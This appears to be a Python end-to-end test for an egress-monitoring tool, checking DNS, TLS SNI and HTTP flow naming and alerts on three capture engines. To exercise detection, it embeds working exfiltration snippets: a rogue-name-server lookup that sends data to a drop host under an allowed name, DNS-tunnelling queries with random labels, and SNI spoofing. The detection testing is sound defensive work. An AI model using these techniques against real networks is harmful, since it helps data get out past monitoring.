#!/usr/bin/python3
"""tests/netns/names_test.py - names of flows, end to end: a resolver, TLS by openssl, HTTP by curl, on two engines.

SPDX-License-Identifier: Apache-2.0
"""
import os
import re

from case import TWO_DPDK_QUEUES, SiteCase, main
from world import PYTHON, SUPPORT, run, wait_for

RESOLVER, EDGE, UNASKED = "5.9.10.20", "8.8.8.8", "8.8.8.77"  # in Germany; in the US, the last one known to no DNS
ROGUE, DROP = "8.8.8.53", "8.8.8.66"  # a name server of the sender's own, and where it would like to send
LISTED = f"names: {{resolvers: [{RESOLVER}]}}\n"
ALLOWED, OTHER = "updates.example.org", "drop.example.net"
TLS, HTTP = 9443, 9080
BODY = 256 << 10
# Not `python -m http.server`, which asks DNS for its own name before it listens.
SERVE = """
import http.server, socketserver
socketserver.ThreadingTCPServer((%r, %d), http.server.SimpleHTTPRequestHandler).serve_forever()
"""
SINK = """
import socketserver
class Sink(socketserver.BaseRequestHandler):
    def handle(self):
        while self.request.recv(65536): pass
socketserver.ThreadingTCPServer((%r, %d), Sink).serve_forever()
"""
# Asks a name server for a name, and sends to the address that it gives; no protocol shows a name.
SMUGGLE = """
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.connect((%r, 53))
name = b"".join(bytes([len(label)]) + label.encode() for label in %r.split("."))
s.send(struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + name + b"\\0\\0\\1\\0\\1")
address = socket.inet_ntoa(s.recv(512)[-4:])
with socket.create_connection((address, %d)) as out:
    out.sendall(b"\\xee" * %d)
"""
ASK = """
import os, socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.connect((%r, 53))
for i in range(%d):
    label = os.urandom(20).hex().encode()
    s.send(struct.pack("!HHHHHH", i, 0x100, 1, 0, 0, 0) + bytes([40]) + label + b"\\6tunnel\\7example\\0\\0\\1\\0\\1")
    s.recv(512)
"""


class Names(SiteCase):
    policy_source = SUPPORT / "names-policy.d"
    settings = LISTED

    def setUp(self):
        super().setUp()
        site = self.site
        site.start("world", PYTHON, SUPPORT / "nameserver.py", RESOLVER, f"{ALLOWED}=edge.cdn.example",
                   f"edge.cdn.example={EDGE}", log="nameserver.log")
        site.start("world", PYTHON, SUPPORT / "nameserver.py", ROGUE, f"{ALLOWED}={DROP}", log="rogue.log")
        site.start("world", PYTHON, "-c", SINK % (DROP, HTTP), log="drop.log")
        run("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "2",
            "-subj", f"/CN={ALLOWED}", "-keyout", site.dir / "key.pem", "-out", site.dir / "cert.pem")
        # -rev answers what it reads, and does not end a connection with its own standard input.
        for address in (EDGE, UNASKED):
            site.start("world", "openssl", "s_server", "-accept", f"{address}:{TLS}", "-quiet", "-rev", "-cert",
                       site.dir / "cert.pem", "-key", site.dir / "key.pem", log=f"tls-{address}.log")
        site.start("world", PYTHON, "-c", SERVE % (EDGE, HTTP), log="http.log")
        for log in ("nameserver.log", "rogue.log"):
            wait_for("the name server", 5, lambda log=log: "ready" in (site.dir / log).read_text())
        wait_for("the servers", 10, lambda: len(re.findall(f":(?:{TLS}|{HTTP}) ",
                                                           site.run_in("world", "ss", "-lntH").stdout)) == 4)
        (site.dir / "resolv.conf").write_text(f"nameserver {RESOLVER}\noptions attempts:1 timeout:5\n")

    def resolving(self, *argv):
        """Runs a program on the host that asks our name server."""
        return self.site.run_in("host", "unshare", "-m", "sh", "-c", 'mount --bind "$0" /etc/resolv.conf && exec "$@"',
                                self.site.dir / "resolv.conf", *argv)

    def tls(self, address, *name):
        """BODY bytes over TLS; the process's end is the connection's."""
        self.site.run_in("host", "sh", "-c", f'head -c {BODY} /dev/zero | openssl s_client -quiet -no_ign_eof "$@"',
                         "s_client", "-connect", f"{address}:{TLS}", *name)

    def flow(self, what, matches):
        """The record of an ended flow that matches."""
        found = wait_for(what, 20, lambda: [r for r in self.site.journal("flow") if r["ended"] and matches(r["flow"])])
        return found[0]

    def alerts(self, mark, rule, number=1):
        found = self.site.wait_alerts(mark, lambda a: a.rule == rule, number)
        self.assertEqual(len(found), number, f"alerts by {rule}")
        return found

    def play(self):
        site = self.site
        # curl: a question, an answer over an alias, a request; allowed from the first byte on.
        self.resolving("curl", "-sf", "--max-time", "10", "-o", "/dev/null", f"http://{ALLOWED}:{HTTP}/")
        # The same name by TLS: far more than the rule's 16 KiB, and allowed.
        self.tls(EDGE, "-servername", ALLOWED)
        # DNS knows nothing of this address: the ClientHello decides.
        self.tls(UNASKED, "-servername", ALLOWED)
        web = self.flow("the request", lambda f: f["remote_port"] == HTTP)
        self.assertEqual((web["flow"]["name"], web["flow"]["name_source"], web["flow"]["app"]), (ALLOWED, "http", "http"))
        self.assertEqual(web["flow"]["dns_names"], [ALLOWED], "the name that was asked, not its alias")
        self.assertEqual(web["flow"]["http"]["method"], "GET")
        self.assertIn("curl/", web["flow"]["http"]["user_agent"])
        self.assertEqual(web["decision"]["allow_id"], "updates")
        for address in (EDGE, UNASKED):
            flow = self.flow(f"TLS to {address}", lambda f, a=address: f["remote_port"] == TLS and f["remote"] == a)
            self.assertEqual((flow["flow"]["name"], flow["flow"]["name_source"], flow["flow"]["app"]),
                             (ALLOWED, "sni", "tls"))
            self.assertRegex(flow["flow"]["tls"]["ja4"], "^t13d[0-9]{4}[0-9a-z]{2}_[0-9a-f]{12}_[0-9a-f]{12}$")
            self.assertEqual(flow["flow"]["tls"]["version"], "1.3")
            self.assertGreater(flow["flow"]["bytes_out"], BODY)
            self.assertEqual((flow["decision"]["verdict"], flow["decision"]["allow_id"]), ("allowed", "updates"))
            self.assertNotIn("name_contradiction", flow["flow"])
        self.assertEqual(site.alerts.findings, [], "nothing but what is allowed")

        # A co-tenant of the allowed address.
        mark = len(site.alerts.findings)
        self.tls(EDGE, "-servername", OTHER)
        [alert] = self.alerts(mark, "not-allowed")
        self.assertEqual(alert.get("destination.domain"), OTHER)
        self.assertEqual(alert.get("egresswatch.name_source"), "sni")
        self.assertEqual(alert.get("tls.client.server_name"), OTHER)
        self.assertIn(f"the sender asks for {OTHER}", alert.get("event.reason"))
        [alert] = self.alerts(mark, "egresswatch/name-contradiction")
        self.assertIn(f"DNS gave the address the name {ALLOWED}", alert.get("event.reason"))
        self.assertEqual(alert.group, {"allow": "updates", "remote": EDGE})
        # No name at all.
        mark = len(site.alerts.findings)
        self.tls(UNASKED, "-noservername")
        [alert] = self.alerts(mark, "not-allowed")
        self.assertIsNone(alert.get("destination.domain"))
        self.assertEqual(alert.get("network.protocol"), "tls")

        # A name server of the sender's own calls another address by the allowed name.
        mark = len(site.alerts.findings)
        site.run_in("host", PYTHON, "-c", SMUGGLE % (ROGUE, ALLOWED, HTTP, BODY))
        [alert] = self.alerts(mark, "not-allowed")
        self.assertEqual((alert.group["remote"], alert.get("destination.domain")), (DROP, ALLOWED))
        self.assertEqual(alert.get("egresswatch.name_source"), "dns-unlisted")
        self.assertIn("only a name server that is not in names.resolvers says that the address is " + ALLOWED,
                      alert.get("event.reason"))
        flow = self.flow("the flow", lambda f: f["remote"] == DROP)["flow"]
        self.assertEqual(flow["dns_names_unlisted"], [ALLOWED])
        self.assertNotIn("dns_names", flow)
        self.assertEqual(site.status()["names"]["dns_unlisted"], 1)
        self.assertEqual(site.status()["names"]["resolvers"], [RESOLVER + "/32"])

        # Data in questions.
        mark = len(site.alerts.findings)
        site.run_in("host", PYTHON, "-c", ASK % (RESOLVER, 25))
        [alert] = self.alerts(mark, "many-names")
        self.assertEqual(alert.group, {"registered_domain": "tunnel.example"})
        # The same to a server outside the region: the flow has an entry, and its sender a name (engine ebpf).
        mark = len(site.alerts.findings)
        site.run_in("host", PYTHON, "-c", (ASK % (ROGUE, 25)).replace("tunnel", "tunne2"))
        [alert] = self.alerts(mark, "many-names")
        if self.engine == "ebpf":
            self.assertEqual(alert.get("process.executable"), os.path.realpath(PYTHON))

        names = site.status()["names"]
        self.assertGreaterEqual(names["dns_messages"], 2 * 25 + 2)
        for limit in ("flows_full", "inspectors_evicted", "dns_unreadable", "dns_evicted"):
            self.assertEqual(names[limit], 0, limit)


class EbpfNames(Names):
    def test_names_on_the_ebpf_engine(self):
        self.play()
        details = self.site.status()["engine_details"]
        self.assertGreater(details["samples.taken"], 0)
        for loss in ("samples.limited", "samples.full", "samples.unplaced"):
            self.assertEqual(details[loss], 0, loss)


class PcapNames(Names):
    engine = "pcap"

    def test_names_on_the_pcap_engine(self):
        self.play()


class DpdkNames(Names):
    engine = "dpdk"
    offload = False
    settings = LISTED + TWO_DPDK_QUEUES.format(port="net_af_packet0")

    def test_names_on_the_dpdk_engine(self):
        self.play()
        details = self.site.status()["engine_details"]
        for core in (0, 1):
            self.assertGreater(details[f"core.{core}.samples.taken"], 0)
            for loss in ("samples.limited", "samples.full"):
                self.assertEqual(details[f"core.{core}.{loss}"], 0, loss)


class HiddenNames(Names):
    engine = "pcap"
    settings = "names: {shown: hashed}\n"

    def test_names_that_are_not_recorded(self):
        self.tls(EDGE, "-servername", OTHER)
        [alert] = self.alerts(0, "not-allowed")
        self.assertRegex(alert.get("destination.domain"), "^hmac:[0-9a-f]{16}$")
        self.flow("the flow", lambda f: f["remote"] == EDGE)
        mark = len(self.site.alerts.findings)
        self.site.run_in("host", PYTHON, "-c", ASK % (RESOLVER, 25))
        [alert] = self.alerts(mark, "many-names")
        self.assertRegex(alert.group["registered_domain"], "^hmac:[0-9a-f]{16}$")
        self.assertEqual((self.site.dir / "state/name-hash.key").stat().st_mode & 0o777, 0o600)
        text = "".join(path.read_text() for path in (self.site.dir / "state").rglob("seg-*.jsonl"))
        told = (self.site.dir / "alerts.json").read_text()
        for name in ("drop.example", "tunnel.example"):
            self.assertNotIn(name, text)
            self.assertNotIn(name, told)


del Names
if __name__ == "__main__":
    main()
